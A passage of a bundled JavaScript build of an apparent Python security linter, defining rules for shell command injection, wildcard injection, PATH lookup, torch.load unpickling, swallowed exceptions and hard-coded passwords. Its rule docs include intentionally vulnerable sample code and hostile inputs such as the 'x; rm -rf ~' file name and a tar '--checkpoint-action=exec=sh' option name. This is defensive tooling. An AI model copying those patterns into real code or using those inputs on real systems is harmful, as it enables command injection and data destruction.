      // the PATH-hijack it warns about needs an attacker who already controls the environment.
      recommended: false,
      message: "process started with a program name looked up in PATH, not a full path",
      fix: "Use an absolute path (`/usr/bin/git`) or resolve it once with shutil.which() and check the result.",
      options: { subprocess: SUBPROCESS_FUNCTIONS, shell: SHELL_FUNCTIONS, noShell: NO_SHELL_FUNCTIONS },
      ...listedCalls("subprocess", "shell", "noShell"),
      docs: {
        why: "A program given by name is found through PATH at run time; whoever controls PATH (or the working directory on Windows) chooses what actually runs.",
        bad: ['import subprocess\nsubprocess.run(["git", "status"])\n'],
        good: ['import subprocess\nsubprocess.run(["/usr/bin/git", "status"])\n'],
        references: ["https://docs.python.org/3/library/shutil.html#shutil.which"]
      },
      create(context) {
        const functions = /* @__PURE__ */ new Set([...context.options.subprocess, ...context.options.shell, ...context.options.noShell]);
        return {
          call(node) {
            const name = context.module.callName(node);
            if (!name || !functions.has(name))
              return;
            const command = commandArgument(node);
            const program = command ? literalProgram(command, context.module) : void 0;
            if (!program || FULL_PATH.test(program.text))
              return;
            const word = program.text.trim().split(/\s+/)[0] ?? program.text;
            context.report({ node: program.node, message: `process started with the partial path '${word}': the program is looked up in PATH` });
          }
        };
      }
    });
  }
});

// dist/rules/command-injection/start-process-with-shell.js
var COMMAND2, start_process_with_shell_default;
var init_start_process_with_shell = __esm({
  "dist/rules/command-injection/start-process-with-shell.js"() {
    "use strict";
    init_name_triggers();
    init_taint_rule();
    init_process_functions();
    COMMAND2 = { keyword: "cmd", position: 0 };
    start_process_with_shell_default = taintRule({
      id: "start-process-with-shell",
      aliases: ["B605", "S605", "start_process_with_a_shell"],
      category: "command-injection",
      cwe: 78,
      severity: "high",
      confidence: "high",
      message: "command built at run time runs through the shell (os.system/os.popen and friends)",
      fix: "Use subprocess.run() with an argument list (no shell), or quote every run-time value with shlex.quote().",
      options: { functions: SHELL_FUNCTIONS },
      ...listedCalls("functions"),
      sinkClass: "shell",
      sinks: {},
      optionSinks: (options) => Object.fromEntries(options.functions.map((name) => [name, COMMAND2])),
      levels: SINK_LEVELS,
      describe: (source, call, module2) => `${module2.callName(call)}() runs a command built from ${source} through the shell`,
      docs: {
        why: "os.system(), os.popen() and the commands/popen2 helpers always hand their string to /bin/sh: a run-time part such as a file name `x; rm -rf ~` adds commands of its own. A command from request data or other outside input blocks; from a parameter or an unknown value it is shown; a constant or shlex-quoted command only by --profile audit.",
        bad: [
          'import os\nfrom django.http import HttpResponse\ndef lookup(request):\n    os.system("nslookup " + request.GET["host"])\n    return HttpResponse("ok")\n',
          'import os\ndef show(path):\n    os.system("cat " + path)\n'
        ],
        good: [
          'import subprocess\ndef show(path):\n    subprocess.run(["cat", "--", path], check=True)\n',
          'import os\nos.system("clear")\n'
        ],
        references: ["https://docs.python.org/3/library/os.html#os.system", "https://cwe.mitre.org/data/definitions/78.html"]
      }
    });
  }
});

// dist/rules/command-injection/start-process-without-shell.js
var start_process_without_shell_default;
var init_start_process_without_shell = __esm({
  "dist/rules/command-injection/start-process-without-shell.js"() {
    "use strict";
    init_name_triggers();
    init_types();
    init_arguments();
    init_process_functions();
    init_process_arguments();
    start_process_without_shell_default = defineRule({
      id: "start-process-without-shell",
      aliases: ["B606", "S606", "start_process_with_no_shell"],
      category: "command-injection",
      cwe: 78,
      severity: "low",
      confidence: "medium",
      cost: "fast",
      message: "process started with os.exec*/os.spawn*/os.startfile: make sure the program and its arguments are trusted",
      fix: "Keep the program path fixed and validate every argument; prefer subprocess.run() with an argument list.",
      options: { functions: NO_SHELL_FUNCTIONS },
      ...listedCalls("functions"),
      docs: {
        why: "These functions start a program without a shell, so metacharacters are harmless, but a run-time program path or file (os.startfile opens anything with its associated application) still decides what runs. Calls whose arguments are all fixed are shown only by --profile audit.",
        bad: ["import os\ndef launch(program, arg):\n    os.execvp(program, [program, arg])\n"],
        good: ['import os, sys\nos.execv(sys.executable, [sys.executable, "-m", "myapp"])\n'],
        references: ["https://docs.python.org/3/library/os.html#os.execv"]
      },
      create(context) {
        const functions = new Set(context.options.functions);
        return {
          call(node) {
            const name = context.module.callName(node);
            if (!name || !functions.has(name))
              return;
            const args = positionalArguments(node);
            if (args.length > 0 && args.every((arg) => arg.type !== "list_splat" && isFixedCommand(arg, context.module))) {
              context.report({ node, severity: "low", confidence: "low", auditOnly: true, message: `${name}() with a fixed command (shown by --profile audit)` });
              return;
            }
            context.report({ node });
          }
        };
      }
    });
  }
});

// dist/rules/command-injection/subprocess-without-shell.js
var subprocess_without_shell_default;
var init_subprocess_without_shell = __esm({
  "dist/rules/command-injection/subprocess-without-shell.js"() {
    "use strict";
    init_name_triggers();
    init_types();
    init_process_functions();
    init_shell_truthiness();
    init_process_arguments();
    subprocess_without_shell_default = defineRule({
      id: "subprocess-without-shell",
      aliases: ["B603", "S603", "subprocess_without_shell_equals_true"],
      category: "command-injection",
      cwe: 78,
      severity: "low",
      confidence: "high",
      cost: "fast",
      // Off in the recommended preset: without shell=True only the program and its argument values are at stake, and
      // Bandit's "check for untrusted input" on every subprocess call is the noise most projects turn off.
      recommended: false,
      message: "subprocess call runs a command built at run time: make sure no part of it is untrusted",
      fix: "Keep the program fixed (a literal or sys.executable) and validate values passed as arguments; put `--` before user-supplied operands.",
      options: { functions: SUBPROCESS_FUNCTIONS },
      ...listedCalls("functions"),
      docs: {
        why: 'Without a shell there is no command injection through metacharacters, but a run-time program name or an argument that starts with `-` can still make the program do something else. Fixed argument lists (literals, `sys.executable`, `shlex.split("literal")`) are shown only by --profile audit.',
        bad: ["import subprocess\ndef run(cmd):\n    subprocess.run(cmd)\n"],
        good: [
          'import subprocess\nsubprocess.run(["git", "status", "--short"])\n',
          'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "--version"])\n'
        ],
        references: ["https://docs.python.org/3/library/subprocess.html#security-considerations"]
      },
      create(context) {
        const functions = new Set(context.options.functions);
        return {
          call(node) {
            const name = context.module.callName(node);
            if (!name || !functions.has(name) || isShellTrue(node, context.module))
              return;
            const command = commandArgument(node);
            if (command && isFixedCommand(command, context.module)) {
              context.report({ node, severity: "low", confidence: "low", auditOnly: true, message: "subprocess call with a fixed argument list (shown by --profile audit)" });
              return;
            }
            context.report({ node });
          }
        };
      }
    });
  }
});

// dist/rules/command-injection/wildcard-injection.js
var WILDCARD_TOOLS, wildcard_injection_default;
var init_wildcard_injection = __esm({
  "dist/rules/command-injection/wildcard-injection.js"() {
    "use strict";
    init_types();
    init_process_functions();
    init_shell_truthiness();
    init_process_arguments();
    init_name_triggers();
    init_literals();
    WILDCARD_TOOLS = /\b(?:chown|chmod|tar|rsync)\b/;
    wildcard_injection_default = defineRule({
      id: "wildcard-injection",
      aliases: ["B609", "S609", "linux_commands_wildcard_injection"],
      category: "command-injection",
      cwe: 155,
      severity: "high",
      confidence: "medium",
      cost: "fast",
      message: "shell command runs chown/chmod/tar/rsync on a `*` wildcard: file names can be read as options",
      fix: "Put `--` before the wildcard (`tar cf out.tar -- *`) or use `./*`, or build the file list in Python and pass it without a shell.",
      options: { subprocess: SUBPROCESS_FUNCTIONS, shell: SHELL_FUNCTIONS },
      // A shell function, or a subprocess function with a `shell=` keyword argument. Not the tool names: the command
      // text is folded, so `tar` may be spelt with escapes or split across literals.
      triggers: (options) => [...options.shell.map(nameTrigger), "shell"],
      callees: (options) => [...options.shell, ...options.subprocess].map(lastName),
      docs: {
        why: "The shell expands `*` to every file name in the directory; a file called `--checkpoint-action=exec=sh x.sh` (tar) or `--reference=evil` (chown) becomes an option of the command.",
        bad: ['import os\nos.system("tar cf /backup/all.tar *")\n'],
        good: ['import os\nos.system("tar cf /backup/all.tar -- ./*")\n'],
        references: ["https://www.exploit-db.com/papers/33930", "https://cwe.mitre.org/data/definitions/155.html"]
      },
      create(context) {
        const subprocessFunctions = new Set(context.options.subprocess);
        const shellFunctions = new Set(context.options.shell);
        return {
          call(node) {
            const name = context.module.callName(node);
            if (!name)
              return;
            const viaShell = shellFunctions.has(name) || subprocessFunctions.has(name) && isShellTrue(node, context.module);
            if (!viaShell)
              return;
            const command = commandArgument(node);
            if (!command)
              return;
            const parts = command.type === "list" || command.type === "tuple" ? command.namedChildren : [command];
            const text = parts.map((part) => context.module.fold(part)?.text ?? HOLE).join(" ");
            if (!WILDCARD_TOOLS.test(text) || !text.includes("*"))
              return;
            if (/(?:^|\s)--(?:\s|$)/.test(text.slice(0, text.indexOf("*"))))
              return;
            if (!text.replace(/(?:^|\s)\.\/\S*/g, " ").includes("*"))
              return;
            context.report({ node });
          }
        };
      }
    });
  }
});

// dist/rules/command-injection/shell-wrapper-unsafe.js
function parseWrappers(entries) {
  return entries.map((entry) => {
    const [name, keyword] = entry.split(":");
    return { name, keyword: keyword || void 0 };
  });
}
var WRAPPER_ENTRY, COMMAND_KEYWORDS, wrapperWords, shell_wrapper_unsafe_default;
var init_shell_wrapper_unsafe = __esm({
  "dist/rules/command-injection/shell-wrapper-unsafe.js"() {
    "use strict";
    init_types();
    init_name_triggers();
    init_arguments();
    init_taint();
    WRAPPER_ENTRY = /^(?:\*|[A-Za-z_]\w*(?:\(\))?)(?:\.[A-Za-z_]\w*(?:\(\))?)*(?::[A-Za-z_]\w*)?$/;
    COMMAND_KEYWORDS = ["args", "cmd", "command"];
    wrapperWords = (options) => parseWrappers(options.wrappers);
    shell_wrapper_unsafe_default = defineRule({
      id: "shell-wrapper-unsafe",
      aliases: [],
      category: "command-injection",
      cwe: 78,
      severity: "high",
      confidence: "high",
      cost: "fast",
      message: "a project function that runs its command through the shell is called with a command built at run time",
      fix: "Pass an argument list and leave the shell switch off (`module.run_command([cmd, arg])`), or quote every value with shlex.quote.",
      options: { wrappers: ["*.run_command:use_unsafe_shell"] },
      optionFormats: { wrappers: { pattern: WRAPPER_ENTRY, example: "mypkg.proc.run:use_shell" } },
      // The switch keyword (or, for always-shell functions, the function's name) is written at every call.
      triggers: (options) => wrapperWords(options).map((wrapper) => wrapper.keyword ?? lastName(wrapper.name.replace(/\(\)$/, ""))),
      callees: (options) => wrapperWords(options).map((wrapper) => lastName(wrapper.name)),
      docs: {
        why: 'Projects wrap subprocess in helpers of their own \u2014 Ansible\'s `module.run_command(cmd, use_unsafe_shell=True)`, a company `run(cmd, shell=True)` \u2014 and a reviewer that only knows subprocess misses every shell command they run. The `wrappers` option names them: `"pkg.module.func"` for a function that always uses a shell, `"pkg.module.func:keyword"` for one that does when `keyword` is true, `"*.method:keyword"` for a method on any object. A command built at run time is high severity, as for subprocess with shell=True (confidence medium for `*.` entries: the receiver is not resolved); with request data in it the flow is shown; a constant command is low.',
        bad: [
          'from ansible.module_utils.basic import AnsibleModule\ndef main():\n    module = AnsibleModule(argument_spec={"path": {"type": "str"}})\n    module.run_command("ls -l %s" % module.params["path"], use_unsafe_shell=True)\n'
        ],
        good: [
          'from ansible.module_utils.basic import AnsibleModule\ndef main():\n    module = AnsibleModule(argument_spec={"path": {"type": "str"}})\n    module.run_command(["ls", "-l", module.params["path"]])\n',
          'def main(module):\n    module.run_command("ls -l /etc | wc -l", use_unsafe_shell=True)  # constant command: low severity only\n'
        ],
        references: ["https://docs.ansible.com/ansible/latest/reference_appendices/module_utils.html#ansible.module_utils.basic.AnsibleModule.run_command", "https://cwe.mitre.org/data/definitions/78.html"]
      },
      create(context) {
        const { module: module2 } = context;
        const wrappers = parseWrappers(context.options.wrappers);
        const exact = new Map(wrappers.filter((wrapper) => !wrapper.name.startsWith("*.")).map((wrapper) => [wrapper.name, wrapper]));
        const anyReceiver = new Map(wrappers.filter((wrapper) => wrapper.name.startsWith("*.")).map((wrapper) => [wrapper.name.slice(2), wrapper]));
        const wrapperOf = (call) => {
          const name = module2.callName(call);
          const resolved = name === void 0 ? void 0 : exact.get(name);
          if (resolved)
            return { wrapper: resolved, confidence: "high" };
          const method = call.childForFieldName("function")?.type === "attribute" ? module2.calleeAttribute(call) : void 0;
          const loose = method === void 0 ? void 0 : anyReceiver.get(method);
          return loose ? { wrapper: loose, confidence: "medium" } : void 0;
        };
        const switchedOn = (call, keyword) => {
          const value = keywordArgument(call, keyword);
          if (!value)
            return false;
          const constant = module2.constant(value);
          return constant === void 0 || !!constant;
        };
        return {
          call(node) {
            const found = wrapperOf(node);
            if (!found || found.wrapper.keyword && !switchedOn(node, found.wrapper.keyword))
              return;
            const command = argument(node, null, 0) ?? COMMAND_KEYWORDS.map((keyword) => keywordArgument(node, keyword)).find(Boolean);
            if (!command)
              return;
            const at = found.wrapper.keyword ? keywordArgumentNode(node, found.wrapper.keyword) ?? node : node;
            const label = lastName(found.wrapper.name);
            if (module2.isConstant(command)) {
              context.report({ node: at, severity: "low", confidence: "high", message: `${label}() runs a constant command through the shell: safe now, but one edit away from injection` });
              return;
            }
            context.report({
              node: at,
              confidence: found.confidence,
              message: `${label}() runs a command built at run time through the shell`,
              ...requestEvidence(command, node, module2, "shell", `${label}() runs a command built from request data through the shell`)
            });
          }
        };
      }
    });
  }
});

// dist/rules/deserialization/torch-load.js
var torch_load_default;
var init_torch_load = __esm({
  "dist/rules/deserialization/torch-load.js"() {
    "use strict";
    init_taint_rule();
    init_arguments();
    torch_load_default = taintRule({
      id: "torch-load",
      aliases: ["B614", "pytorch_load"],
      category: "deserialization",
      cwe: 502,
      severity: "medium",
      confidence: "high",
      message: "torch.load() without weights_only=True unpickles the file: a malicious checkpoint runs code",
      fix: "Pass weights_only=True (and load the state dict into a model you construct), or use safetensors.",
      triggers: ["torch"],
      sinkClass: "deserialization",
      sinks: { "torch.load": { keyword: "f", position: 0 }, "torch.serialization.load": { keyword: "f", position: 0 } },
      // weights_only=True restricts unpickling to tensors and plain containers.
      when: (call, module2) => {
        const weightsOnly = keywordArgument(call, "weights_only");
        return !weightsOnly || module2.constant(weightsOnly) !== true;
      },
      levels: SINK_LEVELS,
      describe: (source, call) => `torch.load()${keywordArgument(call, "weights_only") ? " with weights_only disabled" : " without weights_only=True"} unpickles ${source}: a malicious checkpoint runs code`,
      docs: {
        why: "torch.load() is pickle underneath; a checkpoint from an untrusted source can execute arbitrary code while loading. weights_only=True restricts unpickling to tensors and plain containers. A checkpoint named by request data blocks; a parameter or unknown path is shown; a constant path only by --profile audit.",
        bad: ["import torch\ndef restore(path):\n    return torch.load(path)\n", 'import torch\nfrom flask import request\ndef restore():\n    return torch.load(request.files["model"])\n'],
        good: ["import torch\ndef restore(path):\n    return torch.load(path, weights_only=True)\n"],
        references: ["https://pytorch.org/docs/stable/generated/torch.load.html", "https://cwe.mitre.org/data/definitions/502.html"]
      }
    });
  }
});

// dist/rules/exception-handling/support/except-clauses.js
function caughtType(clause) {
  const first = clause.namedChildren.find((child) => child.type !== "comment" && child.type !== "block");
  if (!first)
    return null;
  return first.type === "as_pattern" ? first.firstNamedChild : first;
}
function catchesEverything(clause, module2) {
  const type = caughtType(clause);
  if (!type)
    return true;
  const types = type.type === "tuple" || type.type === "parenthesized_expression" ? type.namedChildren : [type];
  return types.some((item) => BROAD.has(item.type === "identifier" && !module2.imports.aliases.has(item.text) ? item.text : module2.qualifiedName(item) ?? ""));
}
function soleStatement(clause) {
  const body = clause.namedChildren.find((child) => child.type === "block");
  const statements = body?.namedChildren.filter((child) => child.type !== "comment") ?? [];
  return statements.length === 1 ? statements[0] : null;
}
function swallows(clause, statementType) {
  const statement = soleStatement(clause);
  if (statement?.type === statementType)
    return true;
  return statementType === "pass_statement" && statement?.type === "expression_statement" && statement.firstNamedChild?.type === "ellipsis";
}
function calleeLastName(statement) {
  let expression = statement.type === "expression_statement" ? statement.firstNamedChild : null;
  if (expression?.type === "await")
    expression = expression.firstNamedChild;
  if (expression?.type !== "call")
    return void 0;
  const callee = expression.childForFieldName("function");
  if (callee?.type === "identifier")
    return callee.text;
  return callee?.type === "attribute" ? callee.childForFieldName("attribute")?.text : void 0;
}
function deliberateSwallowReason(clause) {
  const body = clause.namedChildren.find((child) => child.type === "block");
  const comments = [...clause.namedChildren, ...body?.namedChildren ?? []].filter((child) => child.type === "comment");
  if (comments.some((comment) => comment.startPosition.row > clause.startPosition.row && !TOOL_COMMENT.test(comment.text)))
    return "a comment in the handler says why";
  const tryStatement = clause.parent;
  for (let node = tryStatement?.parent ?? null; node && node.type !== "function_definition" && node.type !== "class_definition"; node = node.parent) {
    if (node.type === "finally_clause")
      return "best-effort cleanup in a finally block";
  }
  const name = enclosingFunction(clause)?.childForFieldName("name")?.text;
  if (name && CLEANUP_FUNCTION.test(name))
    return `best-effort cleanup in ${name}()`;
  const statements = tryStatement?.childForFieldName("body")?.namedChildren.filter((child) => child.type !== "comment") ?? [];
  if (statements.length > 0 && statements.every((statement) => CLEANUP_CALL.test(calleeLastName(statement) ?? "")))
    return "best-effort cleanup call";
  const probed = tryStatement && statements.length === 1 ? assignedName(statements[0]) : void 0;
  if (tryStatement && probed && testedAfter(probed, tryStatement))
    return `a probe: a failure leaves ${probed} at its earlier value, which the code tests afterwards`;
  return void 0;
}
function assignedName(statement) {
  const assignment = statement.type === "expression_statement" ? statement.firstNamedChild : null;
  const left = assignment?.type === "assignment" ? assignment.childForFieldName("left") : null;
  return left?.type === "identifier" ? left.text : void 0;
}
function testedAfter(name, tryStatement) {
  const owner = enclosingFunction(tryStatement) ?? tryStatement.tree.rootNode;
  return owner.descendantsOfType("identifier").some((use) => {
    if (use.text !== name || use.startIndex < tryStatement.endIndex)
      return false;
    const parent = use.parent;
    if (parent?.type === "comparison_operator" || parent?.type === "not_operator")
      return true;
    if (parent?.type === "boolean_operator")
      return parent.parent?.type === "if_statement" || parent.parent?.type === "elif_clause";
    return (parent?.type === "if_statement" || parent?.type === "elif_clause") && parent.childForFieldName("condition")?.id === use.id;
  });
}
function swallowingHandlers(context, statementType, message) {
  const handle = (node) => {
    if (!swallows(node, statementType))
      return;
    const broad = catchesEverything(node, context.module);
    if (!broad && !context.options.checkTypedException)
      return;
    if (!broad) {
      context.report({ node, severity: "low", confidence: "high" });
      return;
    }
    const reason = deliberateSwallowReason(node);
    if (reason)
      context.report({ node, severity: "low", message: `${message} (not blocking: ${reason})` });
    else
      context.report({ node });
  };
  return { except_clause: handle, except_group_clause: handle };
}
var BROAD, CLEANUP_FUNCTION, CLEANUP_CALL, TOOL_COMMENT;
var init_except_clauses = __esm({
  "dist/rules/exception-handling/support/except-clauses.js"() {
    "use strict";
    init_syntax();
    BROAD = /* @__PURE__ */ new Set(["Exception", "BaseException", "builtins.Exception", "builtins.BaseException"]);
    CLEANUP_FUNCTION = /^_*(?:del|exit|aexit|close|aclose|stop|shutdown|teardown|tear_down|dispose|release|disconnect|terminate|kill)_*$|clean_?up/i;
    CLEANUP_CALL = /^_*(?:close|aclose|unlink|remove|rmtree|rmdir|removedirs|abort|abort_job|kill|terminate|stop|shutdown|disconnect|release|cleanup|clean_up|cancel)$/;
    TOOL_COMMENT = /^#\s*(?:noqa|pragma|type:|nosec|pylint:|fmt:)/i;
  }
});

// dist/rules/exception-handling/try-except-continue.js
var MESSAGE, try_except_continue_default;
var init_try_except_continue = __esm({
  "dist/rules/exception-handling/try-except-continue.js"() {
    "use strict";
    init_types();
    init_except_clauses();
    MESSAGE = "exception swallowed in a loop: `except` with only `continue` skips every error without a trace";
    try_except_continue_default = defineRule({
      id: "try-except-continue",
      aliases: ["B112", "S112", "try_except_continue"],
      category: "exception-handling",
      cwe: 703,
      severity: "high",
      confidence: "medium",
      cost: "fast",
      message: MESSAGE,
      fix: "Catch the specific exception you expect, log it, or use contextlib.suppress(SpecificError) to say it is intended.",
      options: { checkTypedException: false },
      triggers: ["continue"],
      docs: {
        why: "A broad `except: continue` in a loop skips any failing item \u2014 a record that failed validation, a file that could not be checked \u2014 and leaves no trace to investigate: in application code it blocks. Best-effort cleanup (in a `finally` block, a `close()`/`__del__`/*cleanup* function, around calls that only close or remove something) handlers whose comment says why, and probes (`x = load()` alone in the try, `x` tested after it) are shown at low severity. Handlers for a specific exception type are not reported unless the checkTypedException option is on.",
        bad: ["for item in items:\n    try:\n        check(item)\n    except Exception:\n        continue\n"],
        good: [
          "for item in items:\n    try:\n        check(item)\n    except ValueError:\n        continue\n",
          'import logging\nfor item in items:\n    try:\n        check(item)\n    except Exception:\n        logging.exception("skipping %s", item)\n        continue\n'
        ],
        references: ["https://cwe.mitre.org/data/definitions/703.html", "https://docs.python.org/3/library/contextlib.html#contextlib.suppress"]
      },
      create: (context) => swallowingHandlers(context, "continue_statement", MESSAGE)
    });
  }
});

// dist/rules/exception-handling/try-except-pass.js
var MESSAGE2, try_except_pass_default;
var init_try_except_pass = __esm({
  "dist/rules/exception-handling/try-except-pass.js"() {
    "use strict";
    init_types();
    init_except_clauses();
    MESSAGE2 = "exception swallowed: `except` with only `pass` hides every error, including security failures";
    try_except_pass_default = defineRule({
      id: "try-except-pass",
      aliases: ["B110", "S110", "try_except_pass"],
      category: "exception-handling",
      cwe: 703,
      severity: "high",
      confidence: "medium",
      cost: "fast",
      message: MESSAGE2,
      fix: "Catch the specific exception you expect, log it, or use contextlib.suppress(SpecificError) to say it is intended.",
      options: { checkTypedException: false },
      triggers: ["pass", "..."],
      docs: {
        why: "A broad `except: pass` (bare `except:`, `Exception`, `BaseException`, or a tuple holding one; `...` counts as `pass`) silently continues after any failure \u2014 a failed permission check, a broken signature verification, an interrupted write \u2014 and leaves no trace to investigate: in application code it blocks. Best-effort cleanup is not a defect and is shown at low severity, never blocking: a handler in a `finally` block, in `__del__`/`__exit__`/`close()`/`stop()`/a *cleanup* function, or around calls that only close, remove, abort or kill something; so is a handler whose comment (on its own line) says why it swallows, and a probe: `x = load()` alone in the try, with `x` tested after it, keeps the outcome. Handlers for a specific exception type are not reported unless the checkTypedException option is on (then at low severity). In test code the policy lowers the finding to medium, which never blocks.",
        bad: ["try:\n    verify(token)\nexcept Exception:\n    pass\n", "def load(path):\n    try:\n        return parse(path)\n    except:\n        ...\n"],
        good: [
          "try:\n    os.remove(path)\nexcept FileNotFoundError:\n    pass\n",
          'import logging\ntry:\n    verify(token)\nexcept Exception:\n    logging.exception("verification failed")\n    raise\n'
        ],
        references: ["https://cwe.mitre.org/data/definitions/703.html", "https://docs.python.org/3/library/contextlib.html#contextlib.suppress"]
      },
      create: (context) => swallowingHandlers(context, "pass_statement", MESSAGE2)
    });
  }
});

// dist/rules/hardcoded-secret/support/password-names.js
function nameWords(name) {
  return name.replace(/([a-z0-9])([A-Z])/g, "$1_$2").replace(/([A-Z]+)([A-Z][a-z])/g, "$1_$2").split(/[^A-Za-z0-9]+/).filter(Boolean).map((word) => word.toLowerCase());
}
function isPasswordName(name) {
  return PASSWORD_HINT.test(name) && nameWords(name).some((word) => SECRET_WORD.test(word));
}
function isDescribingName(name) {
  const words2 = nameWords(name);
  return words2.some((word) => DESCRIBING_WORDS.has(word)) || HANDLER_WORDS.has(words2[words2.length - 1]);
}
function notASecret(name, value) {
  const text = value.trim();
  if (text === "")
    return "empty";
  if (PLACEHOLDER2.test(text) || /^(?:none|null|nil|undefined|true|false|change[-_ ]?(?:me|it))$/i.test(text))
    return "placeholder";
  if (/\[[^\]]+\][*+?{]|\\[dwsS]|^\^.*\$$/.test(text))
    return "pattern";
  if (/^[a-z][a-z0-9+.-]*:\/\//i.test(text) || /^\.{0,2}\//.test(text))
    return "URL or path";
  if (/\s/.test(text) && !nameWords(name).includes("passphrase"))
    return "message";
  if (isLabel(name, text))
    return "label";
  if (isDescribingName(name))
    return "describing name";
  return void 0;
}
function isLabel(name, text) {
  if (!/^[A-Za-z][\w.-]*$/.test(text))
    return false;
  const words2 = nameWords(text);
  if (!words2.every((word) => /^[a-z]+$/.test(word)))
    return false;
  const own = new Set(nameWords(name));
  if (words2.every((word) => own.has(word)))
    return true;
  const spelledAsKey = /[_.-]/.test(text) || /^[a-z]+[A-Z]/.test(text);
  return spelledAsKey && words2.some((word) => SECRET_WORD.test(word));
}
function notASecretComparison(name, value) {
  const reason = notASecret(name, value);
  if (reason)
    return reason;
  if (value.length < 4)
    return "too short";
  if (/^[A-Z][A-Z_]*$/.test(value))
    return "keyword";
  return void 0;
}
function announcesStandIn(value) {
  return STAND_IN.test(value) || GENERATE_ME.test(value) || PLACEHOLDER2.test(value.trim());
}
var SECRET_WORD, PASSWORD_HINT, DESCRIBING_WORDS, HANDLER_WORDS, PLACEHOLDER2, STAND_IN, GENERATE_ME;
var init_password_names = __esm({
  "dist/rules/hardcoded-secret/support/password-names.js"() {
    "use strict";
    SECRET_WORD = /^(?:pas+wo?r?d|pass(?:phrase)?|pwd|token|secrete?)$/i;
    PASSWORD_HINT = /pas|pwd|token|secret/i;
    DESCRIBING_WORDS = /* @__PURE__ */ new Set([
      "type",
      "kind",
      "url",
      "uri",
      "endpoint",
      "host",
      "field",
      "fields",
      "name",
      "label",
      "prompt",
      "hint",
      "message",
      "msg",
      "reason",
      "error",
      "err",
      "text",
      "title",
      "description",
      "desc",
      "help",
      "header",
      "param",
      "parameter",
      "attr",
      "attribute",
      "column",
      "col",
      "env",
      "var",
      "variable",
      "setting",
      "option",
      "path",
      "file",
      "filename",
      "dir",
      "pattern",
      "regex",
      "re",
      "format",
      "fmt",
      "template",
      "prefix",
      "suffix",
      "separator",
      "sep",
      "delimiter",
      "policy",
      "length",
      "len",
      "min",
      "max",
      "count",
      "expiry",
      "expires",
      "expiration",
      "ttl",
      "timeout",
      "lifetime",
      "age",
      "placeholder",
      "input",
      "output",
      "split",
      "start",
      "end",
      "begin",
      "eos",
      "bos",
      "pad",
      "unk",
      "mask",
      "cls",
      "id",
      "ids",
      "uuid",
      "arn",
      "ref",
      "version",
      "index",
      "idx",
      "position",
      "pos",
      "char",
      "chars",
      "class",
      "widget",
      "validator",
      "reset",
      "change",
      "forgot",
      "changed",
      "rotation",
      "strength",
      "algorithm",
      "algo",
      "scheme",
      "method",
      "source",
      "location",
      "mode",
      "scope",
      "scopes"
    ]);
    HANDLER_WORDS = /* @__PURE__ */ new Set(["hasher", "hashers", "backend", "backends", "provider", "providers", "storage", "store", "manager", "handler", "engine"]);
    PLACEHOLDER2 = /^(?:<[^<>]*>|\$\{[^}]*\}|\$[A-Z_][A-Z0-9_]*|\{\{?[^{}]*\}?\}|%\(\w+\)s|%s|\[[^\]]*\]|(.)\1*)$/;
    STAND_IN = /change|dummy|fake|test|placeholder|example|replace|your[-_ ]|not[-_ ]?(a[-_ ])?secret|^x+$|^secret$|^dev$|^\*+$/i;
    GENERATE_ME = /generate|insert|fill[-_ ]?in|set[-_ ]?me|todo|fixme/i;
  }
});

// dist/rules/hardcoded-secret/support/secret-literals.js
function literalString(node) {
  if (node.type === "concatenated_string") {
    const parts = node.namedChildren.map(literalString);
    return parts.every((part) => part !== void 0) ? parts.join("") : void 0;
  }
  if (node.type !== "string" || node.namedChildren.some((child) => child.type === "interpolation"))
    return void 0;
  const literal = readStringLiteral(node);
  return literal.isBytes ? void 0 : literal.value;
}
function targetName(target) {
  switch (target.type) {
    case "identifier":
      return target.text;
    case "attribute":
      return target.childForFieldName("attribute")?.text;
    case "subscript": {
      const key = target.childForFieldName("subscript");
      return key ? literalString(key) : void 0;
    }
    default:
      return void 0;
  }
}
var init_secret_literals = __esm({
  "dist/rules/hardcoded-secret/support/secret-literals.js"() {
    "use strict";
    init_literals();
  }
});

// dist/rules/hardcoded-secret/hardcoded-password-default.js
var hardcoded_password_default_default;
var init_hardcoded_password_default = __esm({
  "dist/rules/hardcoded-secret/hardcoded-password-default.js"() {
    "use strict";
    init_types();
    init_password_names();
    init_secret_literals();
    init_redaction();
    hardcoded_password_default_default = defineRule({
      id: "hardcoded-password-default",
      aliases: ["B107", "S107", "hardcoded_password_default"],
      category: "hardcoded-secret",
      cwe: 259,
      severity: "low",
      confidence: "medium",
      cost: "fast",
      message: "hard-coded password or token as a parameter default",
      fix: "Default the parameter to None and read the secret at run time when it is not given.",
      // isPasswordName tests PASSWORD_HINT on the parameter name, written in the source. Files with a `pass` statement match
      // too, but leaving out the word `pass` would miss names it is a fragment of (`épass`: words are ASCII runs).
      triggers: [PASSWORD_HINT],
      docs: {
        why: "A default credential in a function signature is used whenever a caller forgets the argument, and is readable by everyone with the code. Both `def` and `async def`, positional and keyword-only parameters are checked (Bandit checks positional parameters of `def` only).",
        bad: ['def connect(host, user="admin", password="Adm1n!2024"):\n    pass\n'],
        good: ['def connect(host, user="admin", password=None):\n    pass\n', 'def login(token_type="Bearer"):\n    pass\n'],
        references: ["https://cwe.mitre.org/data/definitions/259.html"]
      },
      create(context) {
        const check2 = (parameter) => {
          const name = parameter.childForFieldName("name")?.text;
          const value = parameter.childForFieldName("value");
          if (!name || !value || !isPasswordName(name))
            return;
          const text = literalString(value);
          if (text === void 0 || notASecret(name, text))
            return;
          context.report({ node: parameter, message: `hard-coded password or token as the default of '${name}'`, credential: credentialIn(value, "name") });
        };
        return {
          default_parameter(node) {
            if (node.parent?.parent?.type === "function_definition")
              check2(node);
          },
          typed_default_parameter(node) {
            if (node.parent?.parent?.type === "function_definition")
              check2(node);
          }
        };
      }
    });
  }
});

// dist/rules/hardcoded-secret/hardcoded-password-funcarg.js
function basicAuthPassword(value) {
  if (value.type !== "tuple")
    return void 0;
  const items = value.namedChildren.filter((child) => child.type !== "comment");
  return items.length === 2 && literalString(items[1]) !== void 0 ? items[1] : void 0;
}
var AUTH_OR_PASSWORD, hardcoded_password_funcarg_default;
var init_hardcoded_password_funcarg = __esm({
  "dist/rules/hardcoded-secret/hardcoded-password-funcarg.js"() {
    "use strict";
    init_types();
    init_arguments();
    init_password_names();
    init_secret_literals();
    init_redaction();
    AUTH_OR_PASSWORD = new RegExp(`${PASSWORD_HINT.source}|^auth$`, PASSWORD_HINT.flags);
    hardcoded_password_funcarg_default = defineRule({
      id: "hardcoded-password-funcarg",
